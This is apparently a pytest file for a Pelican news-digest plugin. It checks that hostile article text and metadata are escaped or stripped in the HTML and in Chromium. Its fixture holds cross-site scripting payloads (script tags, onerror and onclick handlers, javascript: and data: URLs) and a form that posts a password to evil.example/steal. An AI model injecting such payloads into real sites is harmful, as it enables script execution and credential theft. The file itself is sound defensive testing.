"""Hostile article bodies and metadata never reach a page as markup; checked in the HTML and in Chromium."""

from __future__ import annotations

import pytest
from conftest import make_project, needs_chromium, run_digest, soup

HOSTILE = """Title: <script>document.documentElement.dataset.pwned = "title"</script> Hostile "title"
Date: 2024-01-02
Authors: <img src=x onerror="document.documentElement.dataset.pwned='author'">
Publisher: Evil <b onmouseover="alert(1)">Press</b>

A normal paragraph with a <a href="javascript:document.documentElement.dataset.pwned='link'">link</a>.

<script>document.documentElement.dataset.pwned = "script"</script>

<img src="x" onerror="document.documentElement.dataset.pwned='img'">

<iframe src="data:text/html,<script>parent.document.documentElement.dataset.pwned='frame'</script>"></iframe>

<svg><script>document.documentElement.dataset.pwned='svg'</script><circle onload="alert(1)"/></svg>

<style>body { display: none }</style>

<div onclick="alert(1)" style="position:fixed">Click</div>

<form action="https://evil.example/steal"><input name="password"></form>

Last paragraph, “a quotation,” said Mallory Evil.
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("hostile"), {"hostile.md": HOSTILE})
    result = run_digest("build", "-s", str(project / "pelicanconf.py"), "-o", str(project / "output"), cwd=project)
    assert result.returncode == 0, result.stderr
    return project / "output"


def _article(site):
    [path] = [p for p in (site / "articles").glob("*.html") if "hostile" in p.name]
    return path


def test_no_active_markup_in_any_page(hostile_site):
    for path in hostile_site.rglob("*.html"):
        page = soup(path)
        for box in page.select("header form.search-box"):  # the site's own search box
            box.decompose()
        for tag in ("iframe", "form", "input", "style", "svg", "object", "embed"):
            assert not page.find(tag), (path, tag)
        scripts = [s for s in page.find_all("script") if s.get("type") != "application/ld+json"]
        if path.name == "search.html":  # our own search UI, the only script the site has
            assert [s.get("src", "inline") for s in scripts] == ["./pagefind/pagefind-ui.js", "inline"]
            assert "PagefindUI" in scripts[1].string and "pwned" not in scripts[1].string
        else:
            assert not scripts, path
        for element in page.find_all(True):
            assert not [a for a in element.attrs if a.lower().startswith("on")], (path, element.name)
            for attribute in ("href", "src"):
                assert not str(element.get(attribute, "")).lower().startswith(("javascript:", "data:")), path


def test_hostile_text_is_shown_as_text(hostile_site):
    page = soup(_article(hostile_site))
    assert "<script>" in page.h1.get_text()  # escaped and visible, not executed
    assert page.select_one(".article-body").get_text().count("normal paragraph") == 1
    assert [p["id"] for p in page.select(".article-body p[id]")][:1] == ["p-1"]


@needs_chromium
def test_no_script_runs_and_no_dialog_opens_in_chromium(hostile_site, browser):
    dialogs = []
    page = browser.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        for path in (_article(hostile_site), hostile_site / "index.html"):
            page.goto(path.as_uri())
            page.wait_for_timeout(500)
            page.mouse.move(200, 300)
            for link in page.query_selector_all(".article-body a"):
                link.hover()
            assert page.evaluate("document.documentElement.dataset.pwned") is None, path
    finally:
        page.close()
    assert dialogs == []


def test_highlighted_code_keeps_its_colours_but_no_other_class():
    from pelican.plugins.news_digest.reading.sanitize import sanitize_html  # noqa: PLC0415

    html = ('<div class="highlight"><pre><span class="k">def</span> <span class="nf">f</span>'
            '<span class="why quote">x</span></pre></div><p class="k">text</p>')
    page = soup_of(sanitize_html(html))
    assert page.find("div")["class"] == ["highlight"]
    assert [s.get("class") for s in page.find_all("span")] == [["k"], ["nf"], None]  # not the digest's own
    assert page.find("p").get("class") is None  # token classes only on a code block's spans


def soup_of(html: str):
    from bs4 import BeautifulSoup  # noqa: PLC0415

    return BeautifulSoup(html, "lxml")
